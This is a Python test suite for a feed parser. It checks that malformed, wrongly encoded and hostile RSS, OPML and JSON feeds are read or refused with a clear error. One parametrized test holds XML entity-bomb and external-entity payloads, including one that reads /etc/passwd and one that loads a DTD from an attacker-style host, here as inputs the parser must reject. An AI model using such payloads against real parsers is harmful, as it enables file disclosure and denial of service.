"""Damaged and hostile feeds are read as far as they can be, or refused with a reason."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from index.errors import UnreadableError
from index.feeds import (
    Kind,
    parse_feed,
    parse_opml,
    sniff,
)
from tests.index.written_feeds import (
    URL,
    items,
    only,
    parse,
    rss,
)


@pytest.mark.parametrize(
    "doctype",
    [
        '<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">',
        f'<!ENTITY a "{"ha" * 1000}">',
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY % a SYSTEM "http://evil.test/x.dtd"> %a;',
    ],
)
def test_entity_bombs_are_refused(doctype: str) -> None:
    """A feed or list that declares entities that grow, nest or reach outside is refused."""
    head = f'<?xml version="1.0"?><!DOCTYPE rss [{doctype}]>'
    xml = rss("<title>&a;</title><link>https://news.test/x</link>").partition("?>")[2]
    with pytest.raises(UnreadableError, match="entities"):
        parse(head + xml)
    opml = '<opml><body><outline text="&a;" xmlUrl="https://news.test/x"/></body></opml>'
    with pytest.raises(UnreadableError, match="entities"):
        parse_opml((head.replace("DOCTYPE rss", "DOCTYPE opml") + opml).encode(), url=URL)


def test_many_uses_of_a_short_entity_are_refused() -> None:
    """An entity of 60 characters that is used a hundred thousand times is a bomb as well."""
    head = f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "{"x" * 60}">]>'
    with pytest.raises(UnreadableError, match="entities"):
        parse(head + rss(f"<title>{'&a;' * 100_000}</title>").partition("?>")[2])


def test_harmless_entities_are_read() -> None:
    """Named characters and short constants, as old feeds declare them, are put in place."""
    head = '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY paper "The Courier">]>'
    body = rss("<title>&paper; caf&eacute;&nbsp;news</title><link>https://news.test/x</link>")
    assert only(head + body.partition("?>")[2]).title == "The Courier café news"


@pytest.mark.parametrize(
    ("data", "kind", "reason"),
    [
        (b"", Kind.EMPTY, "empty"),
        (b" \n\t ", Kind.EMPTY, "empty"),
        (b"<!doctype html><html><body><p>Not found</p></body></html>", Kind.HTML, "web page"),
        (b"Just some words.", Kind.TEXT, "plain text"),
        (b"\x89PNG\r\n\x1a\n\x00\x00", Kind.BINARY, "binary"),
        (b"<opml><body/></opml>", Kind.OPML, "OPML"),
        (b'{"items": [{"id": "1", "title": "Fl', Kind.FEED, "JSON is damaged"),
        (b'{"items": []}', Kind.FEED, "no entries"),
        (b"<rss><channel><title>x</title></channel></rss>", Kind.FEED, "no entries"),
        (b"<rss", Kind.FEED, ""),
    ],
)
def test_what_is_no_feed_says_what_it_is(data: bytes, kind: Kind, reason: str) -> None:
    """An error names the address, what was found there instead, and what to do."""
    assert sniff(data) is kind
    with pytest.raises(UnreadableError) as raised:
        parse_feed(data, url=URL)
    assert raised.value.subject == URL
    assert reason in raised.value.reason
    assert raised.value.remedy


@pytest.mark.parametrize(
    "text",
    [
        rss(*items(1, 2))[:-40],
        "<br/><b>Warning</b>: mysql\n" + rss(*items(1, 2)),
        "\n\n  " + rss(*items(1, 2)),
        rss(*items(1, 2)).replace("Article 1", "Fish & chips \x0b"),
    ],
)
def test_feeds_that_are_not_well_formed_are_read_all_the_same(text: str) -> None:
    """A feed cut short, with a warning or space above it, or with stray characters, is read."""
    assert [entry.url for entry in parse(text).entries] == [
        "https://news.test/1",
        "https://news.test/2",
    ]


@pytest.mark.parametrize(
    ("encoding", "declared"),
    [("utf-8", None), ("utf-16", None), ("cp1252", "iso-8859-1"), ("koi8-r", "koi8-r")],
)
def test_feeds_in_any_encoding_are_read(encoding: str, declared: str | None) -> None:
    """Byte order marks and declarations are obeyed, for Latin and for Cyrillic titles."""
    title = "Река вышла" if encoding == "koi8-r" else "Café naïve"
    xml = rss(f"<title>{title}</title><link>https://news.test/x</link>")
    if declared:
        xml = xml.replace('version="1.0"?', f'version="1.0" encoding="{declared}"?')
    (entry,) = parse_feed(xml.encode(encoding), url=URL).entries
    assert entry.title == title


@given(st.binary(max_size=200) | st.text(max_size=200).map(str.encode))
def test_any_bytes_are_a_feed_or_an_error(data: bytes) -> None:
    """Whatever the bytes are, they are entries or the one error."""
    for prefix in (b"", b"<rss version='2.0'><channel><item><title>", b'{"items":['):
        try:
            assert parse_feed(prefix + data, url=URL).entries
        except UnreadableError:
            continue


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(
            st.sampled_from(["id", "url", "title", "authors", "name", "date_published", "language"])
            | st.sampled_from(["content_html", "summary", "guid", "#value", "pubDate", "link"]),
            inner,
            max_size=4,
        )
    ),
    max_leaves=12,
)


@given(st.lists(_JSON, max_size=4))
def test_any_json_items_are_entries_or_an_error(items: list[object]) -> None:
    """Fields of unexpected types in JSON raise nothing but the one error."""
    for root in (
        {"version": "https://jsonfeed.org/version/1", "items": items},
        {"rss": {"channel": {"item": items}}},
    ):
        try:
            assert parse(json.dumps(root)).entries
        except UnreadableError:
            continue


@pytest.mark.parametrize("element", ["author", "dc:creator", "description", "title", "guid"])
@pytest.mark.parametrize("piece", ["a.", "a", ". . ", "&amp;lt;p ", "&#97;", "[", "&lt;b&gt;"])
def test_hostile_fields_end(element: str, piece: str) -> None:
    """Fifty thousand beginnings in a field are read in linear time."""
    head = "" if element == "title" else "<title>Floods</title>"
    field = f"<{element}>{piece * 50_000}</{element}>"
    assert only(rss(f"{head}<link>https://news.test/x</link>{field}")).url
